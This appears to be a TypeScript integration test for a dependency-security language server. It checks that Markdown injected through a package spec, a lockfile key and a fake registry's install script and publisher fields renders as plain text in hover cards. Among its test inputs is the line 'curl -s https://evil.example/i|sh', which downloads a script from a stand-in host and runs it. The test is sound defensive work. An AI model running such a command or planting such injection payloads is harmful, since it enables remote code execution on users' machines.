// Issue #10, row 1, through the real language server: a package.json with a hostile spec,
// a lockfile with a hostile key, and a registry whose answer for a locked package carries
// Markdown in its install script, deprecation message, publisher and repository URL. The
// hovers must show that text as text: no link but ours, no image, no HTML, and "Copy IOC"
// only as an id the server resolves.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as path from 'node:path';
import { uriOf } from '../support/lsp-client';
import { HOSTILE_PACKAGE, HOSTILE_VERSION, hostileMarkdown, hostilePackage, hostileSpec, startFakeRegistry } from '../support/fake-registry';
import { tempProject } from '../support/fixtures';
import { RULE_DOCS_BASE } from '../../server/src/engine/rules/catalog';
import { openProject } from '../support/lsp-project';

// markdown-it renders as VS Code's Markdown preview does (here through @vscode/vsce, without types).
type MarkdownIt = { render(src: string): string; validateLink(url: string): boolean };
// eslint-disable-next-line @typescript-eslint/no-require-imports
const md = new (require('markdown-it') as new (options: object) => MarkdownIt)({ html: true, linkify: true });
md.validateLink = () => true; // count every link, whatever its scheme

interface HoverResult {
  contents: { kind: string; value: string };
}

/** Our command links: Copy IOC by id, and Audit this version with [file uri, name, version] all percent-encoded (no parenthesis, quote or bracket left). */
const COMMAND_LINK = /^depwarden\.(copyIocById\?%5B%22[a-z0-9]{1,32}%22%5D|auditVersion\?%5B%22file%3A%2F%2F[A-Za-z0-9%._~-]+%22%2C%22[A-Za-z0-9%._~-]+%22%2C%22[A-Za-z0-9%._~-]+%22%5D)$/;

/** Links we build: npm pages, rule docs, repositories on known hosts, Copy IOC by id, Audit this version. */
function ours(href: string): boolean {
  return (
    href.startsWith('https://www.npmjs.com/') ||
    href.startsWith(RULE_DOCS_BASE) ||
    /^https:\/\/(github\.com|gitlab\.com|bitbucket\.org)\/[\w.-]+\/[\w.-]+(\/|$)/.test(href) ||
    (href.startsWith('command:') && COMMAND_LINK.test(href.slice('command:'.length)))
  );
}

function assertOnlyOurMarkup(card: string, what: string): void {
  // In the Markdown itself, outside code spans (found with the rule VS Code's hover renderer,
  // marked, uses): every `](` that is not escaped opens one of our links, no `![` at all.
  const outside = card.replace(/(`+)([^`]|[^`][\s\S]*?[^`])\1(?!`)/g, '');
  for (const m of outside.matchAll(/(?<!\\)\]\(([^)]*)\)/g)) assert.ok(ours(m[1]), `${what}: a link we did not build: ${m[1]}\n${card}`);
  assert.ok(!/(?<!\\)!\[/.test(outside), `${what}: an image\n${card}`);
  for (const m of outside.matchAll(/(?<!\\)\(command:([^)]*)\)/g)) assert.match(m[1], COMMAND_LINK, `${what}: ${m[0]}`);
  // And rendered, as the preview would.
  const html = md.render(card);
  assert.ok(!/<img/i.test(html), `${what}: an image got in\n${html}`);
  for (const [, href] of html.matchAll(/<a\s+href="([^"]*)"/g)) assert.ok(ours(href.replace(/&amp;/g, '&')), `${what}: a rendered link we did not build: ${href}\n${html}`);
  for (const [, tag] of html.matchAll(/<\/?([a-zA-Z][\w-]*)/g)) {
    assert.ok(['p', 'strong', 'em', 'code', 'a', 'ul', 'li', 'hr', 'br'].includes(tag.toLowerCase()), `${what}: raw HTML <${tag}>\n${html}`);
  }
}

test('hovers over a hostile spec, a hostile lockfile key and a hostile registry answer render no link, image or command of theirs', async (t) => {
  const reg = await startFakeRegistry();
  reg.addPackage(HOSTILE_PACKAGE, hostilePackage(reg.url));
  const hostileKey = `evil${hostileMarkdown(reg.url, 'key')}`;
  const manifest = `{\n  "name": "app",\n  "dependencies": {\n    "${HOSTILE_PACKAGE}": "${HOSTILE_VERSION}",\n    "odd": ${JSON.stringify(hostileSpec(reg.url))}\n  }\n}\n`;
  const lock = JSON.stringify(
    {
      name: 'app',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'app', dependencies: { [HOSTILE_PACKAGE]: HOSTILE_VERSION } },
        [`node_modules/${HOSTILE_PACKAGE}`]: {
          version: HOSTILE_VERSION,
          resolved: `https://registry.npmjs.org/${HOSTILE_PACKAGE}/-/${HOSTILE_PACKAGE}-${HOSTILE_VERSION}.tgz`,
          integrity: 'sha512-AAAA',
          hasInstallScript: true,
        },
        [`node_modules/${hostileKey}`]: { version: `1.0.0${hostileMarkdown(reg.url, 'version')}`, resolved: 'https://registry.npmjs.org/x/-/x-1.0.0.tgz', integrity: 'sha512-BBBB' },
      },
    },
    null,
    2,
  );
  const dir = tempProject({ 'package.json': manifest, 'package-lock.json': lock }, 'depwarden-hostile-hover-');
  const { client } = await openProject(t, dir, { settings: { offline: false, registry: reg.url, advisories: { enabled: false }, debounceMs: 20 }, servers: [reg] });
  const uri = uriOf(path.join(dir, 'package.json'));
  const lockUri = uriOf(path.join(dir, 'package-lock.json'));
  // The registry's answer is in once its deprecation shows as a finding.
  await client.waitFor(() => (client.diagnostics.get(uri) ?? []).find((d) => d.code === 'deprecated'), 'the deprecated finding from the hostile registry answer');
  await client.connection.sendNotification('textDocument/didOpen', { textDocument: { uri, languageId: 'json', version: 1, text: manifest } });
  await client.connection.sendNotification('textDocument/didOpen', { textDocument: { uri: lockUri, languageId: 'json', version: 1, text: lock } });
  const hover = async (docUri: string, text: string, needle: string) => {
    const before = text.slice(0, text.indexOf(needle) + 2).split('\n');
    const position = { line: before.length - 1, character: before.at(-1)!.length };
    const h = (await client.connection.sendRequest('textDocument/hover', { textDocument: { uri: docUri }, position })) as HoverResult | null;
    assert.ok(h, `a hover over ${needle.slice(0, 30)}`);
    return h.contents.value;
  };

  const registryCard = await hover(uri, manifest, `"${HOSTILE_PACKAGE}"`);
  const specCard = await hover(uri, manifest, '"odd"');
  const keyCard = await hover(lockUri, lock, `"node_modules/evil`);
  assertOnlyOurMarkup(registryCard, 'the registry card');
  assertOnlyOurMarkup(specCard, 'the spec card');
  assertOnlyOurMarkup(keyCard, 'the lockfile key card');

  // The hostile text is shown as text (its first 150 characters: names and specs are cut at 200), not dropped.
  const shown = (card: string) => md.render(card).replace(/<[^>]+>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
  const start = (s: string) => s.slice(0, 150);
  assert.ok(shown(specCard).includes(start(hostileSpec(reg.url))), shown(specCard));
  assert.ok(shown(specCard).includes('…'), 'cut with an ellipsis');
  assert.ok(shown(keyCard).includes(start(hostileKey)), shown(keyCard));
  assert.ok(shown(registryCard).includes(start(`node -e "require('x')" ${hostileMarkdown(reg.url, 'script')}`)), 'the install script is shown');
  assert.ok(shown(registryCard).includes(start(`mallory ${hostileMarkdown(reg.url, 'publisher')}`)), 'the publisher is shown');
  assert.ok(shown(registryCard).includes('not linked'), 'the repository URL is named, not linked');

  // Copy IOC: an id, and the server gives back the text it built for it, and nothing for anything else.
  const copy = /\[Copy IOC\]\(command:depwarden\.copyIocById\?([^)]+)\)/.exec(registryCard);
  assert.ok(copy, registryCard);
  const [id] = JSON.parse(decodeURIComponent(copy[1])) as string[];
  const ioc = (await client.connection.sendRequest('depwarden/iocText', { id })) as string;
  assert.match(ioc, new RegExp(`^${HOSTILE_PACKAGE}@${HOSTILE_VERSION.replace(/\./g, '\\.')}\\n# `));
  for (const bad of ['0', 'curl -s https://evil.example/i|sh', ['x'], { id }]) {
    assert.equal(await client.connection.sendRequest('depwarden/iocText', { id: bad }), null, JSON.stringify(bad));
  }
  // Nothing fetched the beacons (no client renders here, but nothing server-side may either).
  assert.deepEqual(reg.requests.filter((r) => r.path.includes('beacon')), []);
});
